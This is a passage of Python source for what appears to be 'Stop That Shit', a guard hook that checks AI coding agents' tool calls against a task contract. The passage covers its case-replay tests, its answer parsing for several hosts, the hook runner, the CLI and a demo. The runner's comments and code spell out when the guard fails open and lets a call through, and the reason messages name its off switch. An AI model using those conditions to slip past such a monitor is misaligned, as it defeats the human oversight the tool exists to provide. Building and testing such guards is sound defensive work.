            expect = _case_expect(event["expect"], where + ".expect") \
                if "expect" in event else None
            steps.append(CaseStep(event["send"], expect))
        else:
            steps.append(CaseStep(event))
    if "expect" not in obj:
        raise CaseError("%s: expect is missing (the answer to the last event)" % name)
    expect = _case_expect(obj["expect"], name + ": expect")
    return Case(name=name, path=path, host=host, family=family, story=story, steps=steps,
                expect=expect, pair=obj.get("pair"), role=role, differs=obj.get("differs"))


def load_cases(folder: str) -> Tuple[List[Case], List[Tuple[str, str]]]:
    """Every *.json case of `folder`, by name, plus (name, message) for the broken ones."""
    import re
    cases, broken = [], []
    # Natural order, so that I10 follows I9 and a pair's two files stay together.
    def order(entry: str) -> List[Any]:
        return [int(p) if p.isdigit() else p for p in re.split(r"([0-9]+)", entry)]
    for entry in sorted(os.listdir(folder), key=order):
        if not entry.endswith(".json"):
            continue
        try:
            cases.append(load_case(os.path.join(folder, entry)))
        except CaseError as exc:
            broken.append((entry[:-5], str(exc)))
    return cases, broken


def _case_fill(value: Any, places: Dict[str, str]) -> Any:
    """Replace {STS_HOME}, {CWD}, {STS_PY} in every string of a payload."""
    if isinstance(value, str):
        for mark, real in places.items():
            value = value.replace(mark, real)
        return value
    if isinstance(value, list):
        return [_case_fill(item, places) for item in value]
    if isinstance(value, dict):
        return {_case_fill(k, places): _case_fill(v, places) for k, v in value.items()}
    return value


def _case_code(text: str) -> Optional[str]:
    """The reason code of an answer: its `Reason:` line, else the first CODE_WORD."""
    import re
    found = re.search(r"(?m)^Reason: ([A-Z][A-Z0-9_]*)\s*$", text)
    if found is None:
        found = re.search(r"\b([A-Z][A-Z0-9]*(?:_[A-Z0-9]+)+)\b", text)
    return found.group(1) if found else None


def read_answer(hook: Optional[str], answer: str) -> CaseAnswer:
    """Reduce a host answer (any of the nine hosts' formats) to result, code and text."""
    if not answer.strip():
        return CaseAnswer("allow", None)
    try:
        obj = json.loads(answer)
    except ValueError:
        return CaseAnswer("unreadable", None, answer)
    if not isinstance(obj, dict):
        return CaseAnswer("unreadable", None, answer)
    tool_hook = hook in _CASE_TOOL_HOOKS
    spec = obj.get("hookSpecificOutput")
    if isinstance(spec, dict):  # Codex, Claude Code
        if spec.get("permissionDecision") == "deny":
            text = str(spec.get("permissionDecisionReason") or "")
            return CaseAnswer("deny", _case_code(text), text)
        text = str(spec.get("additionalContext") or "")
        if text:
            return CaseAnswer("context", _case_code(text), text)
    if obj.get("permissionDecision") == "deny":  # Copilot CLI
        text = str(obj.get("permissionDecisionReason") or "")
        return CaseAnswer("deny", _case_code(text), text)
    if obj.get("decision") == "deny":  # Gemini CLI
        text = str(obj.get("reason") or "")
        return CaseAnswer("deny", _case_code(text), text)
    if isinstance(obj.get("additionalContext"), str) and obj["additionalContext"]:  # Copilot
        return CaseAnswer("context", _case_code(obj["additionalContext"]), obj["additionalContext"])
    if obj.get("decision") == "block" or obj.get("action") == "block" or obj.get("block") is True:
        text = str(obj.get("reason") or obj.get("message") or "")
        return CaseAnswer("deny" if tool_hook else "prompt-error", _case_code(text), text)
    if isinstance(obj.get("context"), str) and obj["context"]:
        return CaseAnswer("context", _case_code(obj["context"]), obj["context"])
    if not obj or set(obj) <= {"hookSpecificOutput"}:
        return CaseAnswer("allow", None)
    return CaseAnswer("unreadable", None, answer)


def _case_audit_lines(home: str) -> List[str]:
    lines: List[str] = []
    folder = os.path.join(home, "runtime")
    try:
        names = sorted(n for n in os.listdir(folder) if n.endswith(".jsonl"))
    except OSError:
        return lines
    for name in names:
        try:
            with open(os.path.join(folder, name), encoding="utf-8") as fh:
                lines.extend(line for line in fh if line.strip())
        except OSError:
            pass
    return lines


def _case_audit_code(before: List[str], after: List[str]) -> Optional[str]:
    """The reasonCode of the audit line this event added, if it added one."""
    if len(after) <= len(before):
        return None
    try:
        return json.loads(after[-1])["decision"]["reasonCode"]
    except (ValueError, KeyError, TypeError):
        return "DAMAGED_AUDIT_LINE"


def _case_show(result: str, code: Optional[str]) -> str:
    return result if not code else "%s %s" % (result, code)


def _case_mismatch(expect: dict, got: CaseAnswer) -> List[str]:
    problems = []
    if got.result != expect["result"] or got.code != expect.get("code"):
        problems.append("expected %s, got %s" % (_case_show(expect["result"], expect.get("code")),
                                                 _case_show(got.result, got.code)))
    if "audit" in expect and got.audit != expect["audit"]:
        problems.append("expected audit %s, got %s" % (expect["audit"], got.audit))
    return problems


def replay_case(case: Case) -> CaseOutcome:
    """Run the events of one case through the real hook runner in a fresh data dir."""
    import contextlib
    import io
    import tempfile
    if case.host not in ADAPTERS:
        return CaseOutcome(case, False, "no adapter",
                           ["no adapter for host %r in this sts.py" % case.host])
    saved_home = os.environ.get("STS_HOME")
    problems: List[str] = []
    last = CaseAnswer("allow", None)
    with tempfile.TemporaryDirectory(prefix="sts-case-") as tmp:
        home, work = os.path.join(tmp, "home"), os.path.join(tmp, "work")
        os.makedirs(home)
        os.makedirs(work)
        # Resolved, because the guard compares resolved paths (self-protection,
        # files=): a symlinked temp dir must not make a case pass or fail.
        home, work = os.path.realpath(home), os.path.realpath(work)
        places = {"{STS_HOME}": home, "{CWD}": work,
                  "{STS_PY}": os.path.realpath(os.path.abspath(__file__))}
        # Code that builds its own Store() must find the same fresh data dir.
        os.environ["STS_HOME"] = home
        try:
            store = Store(home)
            for index, step in enumerate(case.steps):
                payload = _case_fill(step.payload, places)
                hook = payload.get("hook_event_name") or payload.get("hook")
                before = _case_audit_lines(home)
                noise = io.StringIO()
                try:
                    with contextlib.redirect_stderr(noise):
                        answer = run_hook(case.host, json.dumps(payload).encode("utf-8"), store)
                except Exception as exc:  # noqa: BLE001 - a crash is a failed case, not a crash
                    problems.append("event %d raised %s: %s" % (index + 1, type(exc).__name__, exc))
                    last = CaseAnswer("crash", None)
                    break
                last = read_answer(hook if isinstance(hook, str) else None, answer)
                last.audit = _case_audit_code(before, _case_audit_lines(home))
                if step.expect is not None:
                    problems.extend("event %d: %s" % (index + 1, p)
                                    for p in _case_mismatch(step.expect, last))
            else:
                problems.extend(_case_mismatch(case.expect, last))
        finally:
            if saved_home is None:
                os.environ.pop("STS_HOME", None)
            else:
                os.environ["STS_HOME"] = saved_home
    if problems and last.text:
        problems.append("answer: " + " | ".join(last.text.splitlines()[:3]))
    return CaseOutcome(case, not problems, _case_show(last.result, last.code), problems)


def _case_cell(text: str, width: int) -> str:
    return text.ljust(width) if len(text) <= width else text[:width - 1] + "~"


# name, host, expected, got, verdict: 16+1+8+1+24+1+23+1+4 = 79 columns.
_CASE_COLUMNS = (16, 8, 24, 23, 4)


def _case_row(*cells: str) -> str:
    return " ".join(_case_cell(c, w) for c, w in zip(cells, _CASE_COLUMNS)).rstrip()


def cmd_cases(args: List[str]) -> int:
    """python3 sts.py cases [DIR]: replay every case, print a table and N passed, N failed."""
    import textwrap
    if len(args) > 1 or (args and args[0].startswith("-")):
        sys.stderr.write("usage: sts.py cases [DIR|FILE]\n")
        return 2
    target = args[0] if args else os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                                "cases")
    if os.path.isfile(target):
        try:
            cases, broken = [load_case(target)], []
        except CaseError as exc:
            cases, broken = [], [(os.path.splitext(os.path.basename(target))[0], str(exc))]
    elif os.path.isdir(target):
        cases, broken = load_cases(target)
    else:
        sys.stderr.write("sts: no case folder or file at %s\n" % target)
        return 2
    out = sys.stdout
    out.write(_case_row("case", "host", "expected", "got", "") + "\n")
    notes: List[str] = []
    passed = 0
    for name, message in broken:
        out.write(_case_row(name, "?", "-", "malformed", "FAIL") + "\n")
        notes.append(message)
    for case in cases:
        outcome = replay_case(case)
        verdict = "PASS" if outcome.passed else "FAIL"
        passed += outcome.passed
        out.write(_case_row(case.name, case.host,
                            _case_show(case.expect["result"], case.expect.get("code")),
                            outcome.got, verdict) + "\n")
        notes.extend("%s: %s" % (case.name, p) for p in outcome.problems)
    failed = len(cases) + len(broken) - passed
    if notes:
        out.write("\n")
        for note in notes:
            out.write(textwrap.fill(note, 79, subsequent_indent="    ") + "\n")
    out.write("%d passed, %d failed\n" % (passed, failed))
    return 0 if failed == 0 else 1


###############################################################################
# CLI
#
# Owns the hook runner and main().  A hook never shows the host a traceback.
# Input that is empty, not JSON or not an object, and an event that fails
# validation, fail open: no answer, one stderr line, exit 0.  An internal
# error, or input over 8 MiB or not UTF-8, fails open too, except on a tool
# call in a session known to be armed: there the call is denied, because the
# host would run the tool when the hook crashes.
###############################################################################


ADAPTERS: Dict[str, Adapter] = {
    "codex": CodexAdapter(),
    "claude": ClaudeAdapter(),
    **HOST_ADAPTERS_B,
    **HOST_ADAPTERS_C,
}

STDIN_CAP = 8 * 1024 * 1024      # larger input is not parsed (see _unreadable_input)
_SCAN_CAP = 64 * 1024
# Host event names after which the host runs a tool (fail-closed candidates).
_TOOL_HOOK_NAMES = ("PreToolUse", "pre_tool_call", "tool.execute.before", "tool_call",
                    "BeforeTool", "preToolUse")

_INTERNAL_ERROR_REASON = (
    "Stop That Shit could not evaluate this call (internal error: {error}); the task "
    "contract is armed, so the call is blocked. Fix sts.py, or turn the guard off for "
    "this session with `$stop-that-shit off`.")
_OVERSIZE_REASON = (
    "Stop That Shit could not evaluate this call: the input is too large or not UTF-8 "
    "text. The task contract is armed, so the call is blocked. Turn the guard off with "
    "`$stop-that-shit off` if this call is intended.")


def _fail_open(error: str, reason: str) -> str:
    sys.stderr.write("sts: failed open: %s: %s\n" % (error, reason))
    return ""


def _session_armed(store: Store, session_id: Optional[str]) -> bool:
    """Armed by marker, or by a readable contract at guard/lock."""
    if not session_id:
        return False
    key = session_key(session_id)
    try:
        if store.armed_marker(key):
            return True
        loaded = store.load(key)
        return _armed(loaded.state, loaded.storage_error)
    except Exception:  # noqa: BLE001 - already on the failure path
        return False


def _scan_for(raw: bytes, names: Tuple[str, ...]) -> Optional[str]:
    """The first string value of one of `names` in the head of unparseable input."""
    head = raw[:_SCAN_CAP].decode("utf-8", "replace")
    for name in names:
        marker = '"%s"' % name
        at = head.find(marker)
        while at >= 0:
            rest = head[at + len(marker):].lstrip()
            if rest.startswith(":"):
                rest = rest[1:].lstrip()
                if rest.startswith('"'):
                    end = rest.find('"', 1)
                    if end > 1:
                        return rest[1:end]
            at = head.find(marker, at + 1)
    return None


def run_hook(host: str, raw: bytes, store: Optional[Store] = None,
             event: Optional[str] = None) -> str:
    """One host event in, the host's answer out ('' = nothing).  Never raises.

    event: the hook's event name from the command line, for hosts whose stdin
    does not name it (Copilot's camelCase hooks); the payload's own
    hook_event_name wins when it has one."""
    adapter = ADAPTERS[host]
    store = store or Store()
    try:
        store.touch_host(host)
    except Exception:  # noqa: BLE001 - doctor's hint only
        pass
    text = None
    if len(raw) <= STDIN_CAP:
        try:
            text = raw.decode("utf-8")
        except UnicodeDecodeError:
            text = None
    if text is None:
        return _unreadable_input(adapter, raw, store, event)
    if not text.strip():
        return _fail_open("EmptyInput", "no event on stdin")
    try:
        payload = json.loads(text)
    except ValueError as exc:
        return _fail_open("InvalidJSON", str(exc).split(":")[0])
    if not isinstance(payload, dict):
        return _fail_open("InvalidEvent", "the event is not a JSON object")
    if event and not isinstance(payload.get("hook_event_name"), str):
        payload["hook_event_name"] = event
    call = None
    try:
        call = adapter.translate(payload, store)
        if call is None:
            return ""
        if call.event is None:
            return adapter.render(call.answer or NO_RESULT, call)
        event = ControlEvent.from_dict(call.event)
    except EventError as exc:
        return _fail_open("EventError", str(exc))
    except Exception as exc:  # noqa: BLE001 - hosts run the tool when a hook crashes: catch here
        return _internal_error(adapter, call, payload, store, exc)
    try:
        result = handle_event(event, store, adapter.response_outcome)
    except LockTimeout as exc:
        return _fail_open("LockTimeout", str(exc))
    except Exception as exc:  # noqa: BLE001
        return _internal_error(adapter, call, payload, store, exc)
    return adapter.render(result, call)


def _internal_error(adapter: Adapter, call: Optional[HookCall], payload: dict,
                    store: Store, exc: BaseException) -> str:
    error = type(exc).__name__
    is_tool = call.tool_call if call is not None else \
        adapter.event_name(payload) in _TOOL_HOOK_NAMES
    session = (call.session_id if call is not None else None) or adapter.session_of(payload)
    if is_tool and _session_armed(store, session):
        sys.stderr.write("sts: failed closed: %s\n" % error)
        result = CoreResult("deny", _INTERNAL_ERROR_REASON.format(error=error), "INTERNAL_ERROR")
        return adapter.render(result, call or HookCall("PreToolUse", tool_call=True))
    return _fail_open(error, "internal error; the session is not armed")


def _unreadable_input(adapter: Adapter, raw: bytes, store: Store,
                      event: Optional[str] = None) -> str:
    """Input over the cap or not UTF-8 is not parsed: only its first 64 KiB are
    scanned for a session id.  Deny when that session is armed and this is a
    tool hook; otherwise fail open."""
    session = _scan_for(raw, ("session_id", "sessionId"))
    hook = _scan_for(raw, ("hook_event_name", "hook")) or event
    if hook in _TOOL_HOOK_NAMES and _session_armed(store, session):
        sys.stderr.write("sts: failed closed: input too large to evaluate\n")
        result = CoreResult("deny", _OVERSIZE_REASON, "INPUT_TOO_LARGE")
        return adapter.render(result, HookCall(hook, tool_call=True))
    return _fail_open("UnreadableInput", "input over 8 MiB or not UTF-8")


def _read_stdin() -> bytes:
    stream = sys.stdin.buffer
    data = stream.read(STDIN_CAP + 1)
    if len(data) > STDIN_CAP:
        while stream.read(1 << 20):  # drain, so the host never sees a broken pipe
            pass
    return data


_USAGE = """usage: sts.py <command> [args]

hooks (read one host event on stdin):
  codex | claude | hermes | opencode | pi | omp | gemini | qwen
  copilot EVENT                         (Copilot's stdin does not name the event)

inspection:
  status  [--session ID] [--json]       contract and counts of a session
  runtime [all] [--session ID] [--json] audit summary
  explain EVT                           one audited decision
  label EVT correct|incorrect|inconclusive

setup:
  install <host> [--scope user|project] [--dry-run]
  uninstall <host> [--scope user|project] [--dry-run]
  doctor
  demo                                  replay a short Codex session
  --help | --version
"""


def _exit_now(code: int) -> None:
    """End a hook process without the interpreter's tear-down.

    Freeing every module and object one by one costs about 3 ms per call,
    work the kernel does for free.  Nothing is left to lose: the state and
    audit files are closed by now, and the answer is flushed here.
    """
    try:
        sys.stdout.flush()
        sys.stderr.flush()
    finally:
        os._exit(code)


def main(argv: Optional[List[str]] = None) -> int:
    """Entry point for hooks and the CLI; returns the exit code.

    Called with no `argv`, as the hook command does, a hook ends the process
    itself once its answer is flushed (see `_exit_now`); with an `argv` list
    it returns like any function.
    """
    args = sys.argv[1:] if argv is None else list(argv)
    if not args or args[0] in ("-h", "--help", "help"):
        (sys.stdout if args else sys.stderr).write(_USAGE)
        return 0 if args else 2
    command, rest = args[0], args[1:]
    if command in ADAPTERS:
        try:
            answer = run_hook(command, _read_stdin(), event=rest[0] if rest else None)
        except Exception as exc:  # noqa: BLE001 - last resort: never a traceback in a hook
            answer = _fail_open(type(exc).__name__, "unexpected failure")
        if answer:
            sys.stdout.write(answer + "\n")
        if argv is None:
            _exit_now(0)
        return 0
    if command == "--version":
        sys.stdout.write("sts %s\n" % VERSION)
        return 0
    handler = _COMMANDS.get(command)
    if handler is None:
        sys.stderr.write("sts: unknown command %r (see --help)\n" % command)
        return 2
    try:
        return handler(rest)
    except BrokenPipeError:
        # `sts.py cases | head`: the reader left; say nothing more.
        try:
            sys.stdout = open(os.devnull, "w")
        except OSError:
            pass
        return 0


def cmd_demo(args: List[str]) -> int:
    """Replay a short scripted Codex session through the real hook command."""
    import subprocess
    import tempfile
    here = os.path.dirname(os.path.abspath(__file__))
    with tempfile.TemporaryDirectory(prefix="sts-demo-") as tmp:
        env = dict(os.environ, STS_HOME=os.path.join(tmp, "state"))
        work = os.path.join(tmp, "work")
        os.makedirs(work)
        session = "demo-session-1"
        base = {"session_id": session, "cwd": work, "model": "demo-model",
                "permission_mode": "default"}
        steps = [
            ("User types", "$stop-that-shit review -- look for the bug in parser.py",
             dict(base, hook_event_name="UserPromptSubmit",
                  prompt="$stop-that-shit review -- look for the bug in parser.py")),
            ("Agent reads", "Bash: grep -n TODO parser.py",
             dict(base, hook_event_name="PreToolUse", tool_name="Bash", tool_use_id="call_1",
                  tool_input={"command": "grep -n TODO parser.py"})),
            ("Agent edits", "apply_patch: Update File parser.py",
             dict(base, hook_event_name="PreToolUse", tool_name="apply_patch",
                  tool_use_id="call_2",
                  tool_input={"command": "*** Begin Patch\n*** Update File: parser.py\n"
                                         "@@\n-    return None\n+    return []\n*** End Patch\n"})),
            ("User types", "$stop-that-shit change -- fix it",
             dict(base, hook_event_name="UserPromptSubmit",
                  prompt="$stop-that-shit change -- fix it")),
            ("Agent edits", "apply_patch: Update File parser.py",
             dict(base, hook_event_name="PreToolUse", tool_name="apply_patch",
                  tool_use_id="call_3",
                  tool_input={"command": "*** Begin Patch\n*** Update File: parser.py\n"
                                         "@@\n-    return None\n+    return []\n*** End Patch\n"})),
        ]
        command = [sys.executable, "-I", "-S", "-c",
                   "import sys; sys.path.insert(0, %r); import sts; sys.exit(sts.main())" % here,
                   "codex"]
        for who, what, payload in steps:
            proc = subprocess.run(command, input=json.dumps(payload).encode(), env=env,
                                  stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=False)
            sys.stdout.write("--- %s: %s\n" % (who, what))
            out = proc.stdout.decode("utf-8", "replace").strip()
            if not out:
                sys.stdout.write("    (no output: allowed)\n")
                continue
            answer = json.loads(out)
            spec = answer.get("hookSpecificOutput", {})
            if spec.get("permissionDecision") == "deny":
                sys.stdout.write("    DENIED. The model is told:\n")
                body = spec.get("permissionDecisionReason", "")
            else:
                sys.stdout.write("    context for the model:\n")
                body = spec.get("additionalContext") or answer.get("reason", "")
            for line in body.splitlines():
                sys.stdout.write("      " + line + "\n")
    return 0


_COMMANDS: Dict[str, Callable[[List[str]], int]] = {
    "status": lambda rest: cmd_inspect(["status"] + rest, Store()),
    "runtime": lambda rest: cmd_inspect(["runtime"] + rest, Store()),
    "explain": lambda rest: cmd_inspect(["explain"] + rest, Store()),
    "label": lambda rest: cmd_inspect(["label"] + rest, Store()),
    "install": cmd_install,
    "uninstall": cmd_uninstall,
    "doctor": cmd_doctor,
    "demo": cmd_demo,
    "cases": cmd_cases,
}


if __name__ == "__main__":
    sys.exit(main())
